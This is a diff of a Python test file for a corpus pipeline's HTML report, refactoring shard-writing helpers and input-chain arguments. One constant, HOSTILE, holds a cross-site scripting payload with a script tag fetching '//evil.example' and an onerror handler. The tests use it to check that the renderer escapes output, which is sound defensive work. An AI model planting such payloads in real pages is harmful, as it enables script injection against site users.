@@ -17,11 +17,11 @@ from hypothesis import strategies as st
 from gristmill.corpus.store import schema
 from gristmill.corpus.store.errors import RequestError, WorkspaceError
 from gristmill.corpus.store.fate import inputs
-from gristmill.corpus.store.shards import committed, open_shard
-from gristmill.corpus.store.workspace import Manifest, Workspace
-from gristmill.pipelines.report.page.charts import thinned, ticks
-from gristmill.pipelines.report.page.page import ReportSettings, render, write_report
-from gristmill.pipelines.report.page.text import escape, excerpt
+from gristmill.corpus.store.made import put_shards, put_table
+from gristmill.corpus.store.workspace import Workspace
+from gristmill.pipelines.report.charts import thinned, ticks
+from gristmill.pipelines.report.page import ReportSettings, render, write_report
+from gristmill.pipelines.report.text import escape, excerpt
 
 HOSTILE = (
     "</pre></details><script>fetch('//evil.example')</script><img src=x onerror=alert(1)>"
@@ -38,20 +38,14 @@ def name_of(number: int) -> str:
     return hashlib.md5(str(number).encode()).hexdigest()
 
 
-def put(space: Workspace, table: str, declared: pa.Schema, rows: list[dict], made_from: dict[str, str]) -> None:
-    url = space.table(table).shard_url("s.parquet")
-    with open_shard(url, declared, "stamp") as out:
-        out.write_rows(rows)
-    shard = committed(url, "stamp")
-    assert shard is not None
-    finish(space, table, (shard,), made_from)
+def put(
+    space: Workspace, table: str, declared: pa.Schema, rows: list[dict], made_from: dict[str, str], after=()
+) -> None:
+    put_table(space, table, declared, {"s.parquet": rows}, inputs=made_from, after=after)
 
 
 def finish(space: Workspace, table: str, shards: tuple = (), made_from: dict[str, str] | None = None) -> None:
-    stage = table.split("/")[-1]
-    space.table(table).write_manifest(
-        Manifest(table=table, stage=stage, version=1, settings={}, inputs=made_from or {}, shards=shards, counts={})
-    )
+    put_shards(space, table, shards, inputs=made_from)
 
 
 def document(number: int, text: str | None = None, **more: object) -> dict:
@@ -77,15 +71,15 @@ def curated(folder, hostile: bool = False) -> Workspace:
     put(space, "documents", schema.DOCUMENTS, [{**document(n), **bad} for n in range(30)], {})
     rule = HOSTILE if hostile else "few_stop_words"
     rows = [decision(n, "filter", rule if n < 10 else None, value=0.5, threshold=2.0) for n in range(30)]
-    put(space, "decisions/filter", schema.DECISIONS, rows, inputs(space, "filter", until="filter"))
+    put(space, "decisions/filter", schema.DECISIONS, rows, inputs(space, "filter", before=()))
     edited = [{"id": name_of(n), "text": f"edited number {n}", "removed": cuts(n)} for n in range(16, 30)]
     if not hostile:
-        put(space, "edits/filter", schema.EDITS, edited, inputs(space, "filter", until="filter"))
+        put(space, "edits/filter", schema.EDITS, edited, inputs(space, "filter", before=()))
     rows = [
         decision(n, "dedup", "minhash" if n < 15 else None, value=0.9, duplicate_of=name_of(15) if n < 15 else None)
         for n in range(10, 30)
     ]
-    chain = inputs(space, "dedup", until="dedup")
+    chain = inputs(space, "dedup", before=("filter",))
     put(space, "decisions/dedup", schema.DECISIONS, rows, chain)
     members = [
         {"id": name_of(n), "cluster": name_of(10), "cluster_size": 6, "survivor": n == 15,
@@ -339,7 +333,7 @@ def test_a_stage_that_drops_nearly_everything_is_pointed_at(tmp_path):
     space = Workspace(str(tmp_path / "w"))
     put(space, "documents", schema.DOCUMENTS, [document(n) for n in range(3)], {})
     rows = [decision(n, "filter", "all") for n in range(3)]
-    put(space, "decisions/filter", schema.DECISIONS, rows, inputs(space, "filter", until="filter"))
+    put(space, "decisions/filter", schema.DECISIONS, rows, inputs(space, "filter", before=()))
     assert "filter dropped 100.0 % of what it saw" in page_of(space).sections["funnel"]
 
 
